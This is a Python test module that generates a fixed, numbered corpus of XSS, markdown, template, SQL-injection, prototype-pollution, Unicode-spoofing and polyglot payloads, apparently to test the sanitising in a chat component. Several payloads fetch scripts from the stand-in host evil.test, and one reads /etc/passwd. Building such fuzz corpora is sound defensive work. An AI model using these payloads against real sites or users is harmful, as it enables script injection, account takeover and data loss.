"""Texts that try to become markup, script, or something else than they are; each one names what it would run by number.

They are made from families, so that a family is widened in one line: see ``corpus``.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

RUN = "alert({n})"

ELEMENTS = (
    "<script>{run}</script>",
    "<script src=//evil.test/{n}.js></script>",
    "<script src='data:text/javascript,{run}'></script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script/x>{run}</script/x>",
    "<<script>{run}//<</script>",
    "</textarea><script>{run}</script>",
    "</title><script>{run}</script>",
    "</style><script>{run}</script>",
    "--><script>{run}</script><!--",
    "]]><script>{run}</script>",
    "<iframe src='javascript:{run}'></iframe>",
    "<iframe srcdoc='&lt;script&gt;{run}&lt;/script&gt;'></iframe>",
    "<embed src='javascript:{run}'>",
    "<object data='javascript:{run}'></object>",
    "<object data='data:text/html,<script>{run}</script>'></object>",
    "<applet code=x archive=//evil.test/x.jar></applet>",
    "<base href='//evil.test/'>",
    "<base href='javascript:{run}//'>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<meta http-equiv=refresh content='0;url=//evil.test/{n}'>",
    "<meta http-equiv=content-security-policy content=\"script-src 'unsafe-inline'\">",
    "<link rel=stylesheet href=//evil.test/{n}.css>",
    "<link rel=import href=//evil.test/{n}.html>",
    "<link rel=preload as=script href=//evil.test/{n}.js>",
    "<style>@import '//evil.test/{n}.css';</style>",
    "<style>*{{background:url(//evil.test/{n})}}</style>",
    "<div style='background:url(javascript:{run})'>",
    "<div style='width:expression({run})'>",
    "<div style='position:fixed;inset:0;background:red'>{n}</div>",
    "<form action='javascript:{run}'><button>go</button></form>",
    "<form id=f></form><button form=f formaction='javascript:{run}'>go</button>",
    "<input type=image src=x formaction='javascript:{run}'>",
    "<a href='javascript:{run}'>a</a>",
    "<a href='data:text/html,<script>{run}</script>'>a</a>",
    "<a href=//evil.test target=_blank ping=//evil.test/{n}>a</a>",
    "<area href='javascript:{run}'>",
    "<math><maction actiontype=statusline xlink:href='javascript:{run}'>a</maction></math>",
    "<math href='javascript:{run}'>a</math>",
    "<svg><script>{run}</script></svg>",
    "<svg><script href='data:,{run}'/></svg>",
    "<svg><a xlink:href='javascript:{run}'><text y=20>a</text></a></svg>",
    "<svg><animate attributeName=href values='javascript:{run}'/></svg>",
    "<svg><set attributeName=onmouseover to='{run}'/></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{run}</script></svg>#x'/></svg>",
    "<svg><foreignObject><iframe src='javascript:{run}'/></foreignObject></svg>",
    "<template><script>{run}</script></template>",
    "<template shadowrootmode=open><script>{run}</script></template>",
    "<noscript><p title='</noscript><script>{run}</script>'></noscript>",
    "<frameset><frame src='javascript:{run}'></frameset>",
    "<portal src='javascript:{run}'></portal>",
    "<dialog open>{n}</dialog>",
    "<plaintext>{n}",
    "<xmp><script>{run}</script></xmp>",
    "<df-chat data-api='//evil.test/' data-user={n}></df-chat>",
    "<df-chat-log></df-chat-log>",
    "<slot name=x></slot>",
)
# An event that fires by itself, and the element on which it does.
HANDLERS = (
    ("img src=x", "onerror"),
    ("img src=x", "ONERROR"),
    ("img/src=x/", "onerror"),
    ("image src=x", "onerror"),
    ("svg", "onload"),
    ("svg/", "onload"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("keygen autofocus", "onfocus"),
    ("details open", "ontoggle"),
    ("video", "onloadstart"),
    ("video src=x", "onerror"),
    ("video><source", "onerror"),
    ("audio src=x", "onerror"),
    ("object data=x", "onerror"),
    ("iframe", "onload"),
    ("marquee", "onstart"),
    ("div tabindex=0 autofocus", "onfocus"),
    ("div style=animation-name:x", "onanimationstart"),
    ("div style=transition:all", "ontransitionend"),
    ("x contenteditable", "onblur"),
    ("xss id=x tabindex=1", "onfocusin"),
    ("button popovertarget=x", "onclick"),
    ("div id=x popover", "onbeforetoggle"),
    ("link rel=stylesheet href=x", "onerror"),
    ("style", "onload"),
    ("track src=x", "onerror"),
)
QUOTES = ("<{head} {on}={run}>", "<{head} {on}='{run}'>", '"><{head} {on}="{run}">', "'><{head} {on}=`{run}`>")
MUTATION = (
    "<noscript><style></noscript><img src=x onerror={run}></style>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={run}&gt;">',
    '<svg></p><style><a id="</style><img src=x onerror={run}>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>",
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror={run}></style></annotation-xml></math>',
    "<svg><desc><table><tbody><tr><td><svg><style><img src=x onerror={run}>",
    "<table><td background='javascript:{run}'><b><table><i>",
    '<p id="</p><img src=x onerror={run}>">',
    "<listing>&lt;img src=x onerror={run}&gt;</listing>",
    "<select><template><option><img src=x onerror={run}>",
    '<a title="<!--"><img src=x onerror={run}><!-- -->">',
    "<![CDATA[<img src=x onerror={run}>]]>",
    "<!--><img src=x onerror={run}>-->",
    "<!doctype html><img src=x onerror={run}>",
    '<?xml version="1.0"?><img src=x onerror={run}>',
    "<%= {run} %>",
)
SCHEMES = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java\tscript:{run}",
    "java\nscript:{run}",
    " javascript:{run}",
    "javascript&colon;{run}",
    "&#106;avascript:{run}",
    "&#x6A;avascript:{run}",
    "&#0000106avascript:{run}",
    "javascript&#58;{run}",
    "java%0ascript:{run}",
    "%6aavascript:{run}",
    "javascript://evil.test/%0a{run}",
    "javascript:http://x/;{run}",
    "javascript\uff1a{run}",
    "\u200bjavascript:{run}",
    "\ufeffjavascript:{run}",
    "j\u00adavascript:{run}",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={run}>",
    "vbscript:msgbox({n})",
    "blob:https://evil.test/{n}",
    "filesystem:https://evil.test/{n}",
    "view-source:javascript:{run}",
    "file:///etc/passwd",
    "about:blank#{n}",
    "ms-msdt:/id {n}",
    "//evil.test/{n}",
    "\\\\evil.test\\{n}",
    "/accounts/logout/?{n}",
    "?{n}",
)
LINKS = ("[a{n}]({address})", "![a{n}]({address})", "<{address}>", "[a{n}]: {address}", '[a{n}]({address} "t")')
MARKDOWN = (
    '[a](https://x.test/" onmouseover="{run}")',
    "[a](https://x.test/'onmouseover='{run}')",
    "[a](https://x.test/`onmouseover={run}`)",
    "[<img src=x onerror={run}>](https://x.test/)",
    "[https://good.test](https://evil.test/{n})",
    "[a](https://good.test@evil.test/{n})",
    "[a](http://[::1]:80/{n})",
    "[a](http://x.test/%00{n})",
    "[a](mailto:x@x.test?body=<script>{run}</script>)",
    "[a](https://x.test/#javascript:{run})",
    "[[a](javascript:{run})](https://x.test/)",
    "[a]([b](javascript:{run}))",
    '![](x" onerror="{run})',
    "https://x.test/<script>{run}</script>",
    'https://x.test/"onmouseover="{run}',
    "http://javascript:{run}@x.test/",
    "**<img src=x onerror={run}>**",
    "*~~**<svg onload={run}>**~~*",
    "`<img src=x onerror={run}>`",
    "``` <img src=x onerror={run}>",
    "```html\n<script>{run}</script>\n```",
    '```"><script>{run}</script>\nx\n```',
    "```{run}\n</code></pre><script>{run}</script>",
    "> <img src=x onerror={run}>\n> > <svg onload={run}>",
    "- <img src=x onerror={run}>\n  - <svg onload={run}>",
    "1. <img src=x onerror={run}>",
    "# <img src=x onerror={run}>",
    "| <img src=x onerror={run}> |\n|---|",
    "@<img src=x onerror={run}>",
    "@[a](javascript:{run})",
    "\\<script>{run}</script>",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "\\x3cscript\\x3e{run}\\x3c/script\\x3e",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "%3Cscript%3E{run}%3C/script%3E",
)
TEMPLATES = (
    "{{{{ {n} * 7 }}}}",
    "{{{{constructor.constructor('{run}')()}}}}",
    "{{% load x %}}{{{{ request }}}}",
    "${{{run}}}",
    "${{{{{run}}}}}",
    "#{{{run}}}",
    "<%- {run} %>",
    "`${{{run}}}`",
    "%(name)s %(user)s %s {n}",
    "{{name}} {{0}} {n}",
    "<!--?lit$123$-->{n}",
    "?lit$1234567890${n}",
    "{{{{--}}}}<!--lit-part-->{n}",
    "$& $1 $` $' {n}",
    "');{run};//",
    '");{run};//',
    "\\');{run};//",
    "';{run};'",
    "</script><script>{run}</script>",
    "0;url=javascript:{run}",
    "x' OR 1=1; DROP TABLE df_chat_message; -- {n}",
    "\"'`<>&;/\\=()[]{{}}{n}",
)
# They look like another text, or like none.
DISGUISES = (
    "\u202egnp.exe{n}",
    "\u202d\u202e{n}\u202c tail",
    "\u2066\u2067{n}\u2069\u2069 tail",
    "\u200f\u200e{n}",
    "a\u200bb\u200cc\u200d{n}",
    "\u2060\ufeff{n}",
    "p\u0430ypal.test/{n}",
    "\u0338\u0336{n} o\u0338\u0336",
    "Z\u0351\u036b\u0343\u036a\u0302a\u0317\u033bl\u0348g\u0316o{n}",
    "\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67 {n}".encode("utf-16", "surrogatepass").decode("utf-16"),
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "\u02bcscript\u02bc{n}",
    "\u0645\u0631\u062d\u0628\u0627 <b>{n}</b> \u05e9\u05dc\u05d5\u05dd",
    "\u1680{n}\u3000x",
    "\U000e0041\U000e0042{n}",
    "\U0001d4fc\U0001d4ec\U0001d4fb {n}",
)
# What objects have before anybody gave it to them.
NAMES = ("__proto__", "constructor", "toString", "hasOwnProperty", "prototype", "valueOf", "__defineGetter__")
NAMES += ("null", "undefined", "NaN", "true", "[object Object]", "-0", "1e999", "length", "then")
NAMES += ("__proto__[x]={n}", "constructor[prototype][x]={n}", '{{"__proto__": {{"x": {n}}}}}')
POLYGLOTS = (
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={run} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
    "\\x3csVg/<sVg/oNloAd={run}//>\\x3e",
    '">><marquee><img src=x onerror={run}></marquee>"></plaintext\\></|\\><plaintext/onmouseover={run}>',
    "'\">><script>{run}</script><!--",
    "javascript:\"/*'/*`/*--></noscript></title></textarea></style></template></noembed></script><html "
    '" onmouseover=/*&lt;svg/*/onload={run}//>',
    "--></script></title></style>\"/</textarea><a' onclick={run}//>",
    '<a/href="j&Tab;a&Tab;v&Tab;asc&NewLine;ri&Tab;pt&colon;{run}">a</a>',
)
LONG = (
    "<b>" * 600 + "{n}",
    "<img src=x onerror={run}>" + "A" * 5_000,
    "[" * 900 + "{n}",
    "> " * 400 + "{n}",
    "*" * 999 + "{n}",
)


def _shapes() -> Iterator[str]:
    yield from (*ELEMENTS, *MUTATION)
    for number, (head, on) in enumerate(HANDLERS):
        yield QUOTES[number % len(QUOTES)].replace("{head}", head).replace("{on}", on)
    for link, address in product(LINKS[:1], SCHEMES):
        yield link.replace("{address}", address)
    for number, address in enumerate(SCHEMES[:24]):
        yield LINKS[1 + number % (len(LINKS) - 1)].replace("{address}", address)
    yield from (*MARKDOWN, *TEMPLATES, *DISGUISES, *NAMES, *POLYGLOTS, *LONG)


def corpus() -> list[str]:
    """Every payload, in an order that stays the same."""
    return [shape.format(n=number, run=RUN.format(n=number)) for number, shape in enumerate(_shapes(), 1)]


def lines(max_chars: int) -> list[str]:
    """Those that are one line of at most so many characters: for titles, topics and names."""
    return [text for text in corpus() if len(text) <= max_chars and "\n" not in text and "\t" not in text]
